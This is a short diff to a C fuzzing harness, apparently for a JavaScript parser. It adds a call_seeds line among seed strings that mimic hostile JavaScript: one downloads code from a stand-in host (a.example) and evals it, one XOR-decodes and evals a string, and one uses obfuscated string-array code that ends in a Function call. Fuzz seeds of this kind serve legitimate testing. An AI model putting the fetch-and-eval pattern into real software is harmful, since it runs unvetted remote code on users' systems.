@@ -106,6 +106,7 @@ static void seed(void (*run)(const void *bytes, size_t n), const char *head, con
 void fuzz_seeds(void (*run)(const void *bytes, size_t n))
 {
 	literal_seeds("01", "read/test_js.c read/test_js_flow.c read/test_js_fold.c read/test_js_ends.c read/test_units.c", run);
+	call_seeds("js", run);
 	seed(run, "\x10", NULL, "const h = require('https'); h.get('https://a.example/x', r => { let b = ''; r.on('data', c => b += c); r.on('end', () => eval(b)); });");
 	seed(run, "\x10", NULL, "function d(a,k){var s='';for(var i=0;i<a.length;i++)s+=String.fromCharCode(a[i]^k);return s}eval(d([98,107,98,117,115,47,54,46],7));for(;;){try{throw{a:[1,,2]}}catch({a:[b]}){break}finally{}}");
 	seed(run, "\x10", NULL, "function _0x1a(){const a=['x','1y','2z','p'];_0x1a=function(){return a};return _0x1a()}function _0x2b(i){return _0x1a()[i-1]}(function(f,n){const z=f();while(!![]){try{if(parseInt(_0x2b(1))===n)break;z['push'](z['shift']())}catch(e){z['push'](z['shift']())}}}(_0x1a,1));Function(_0x2b(4))()");
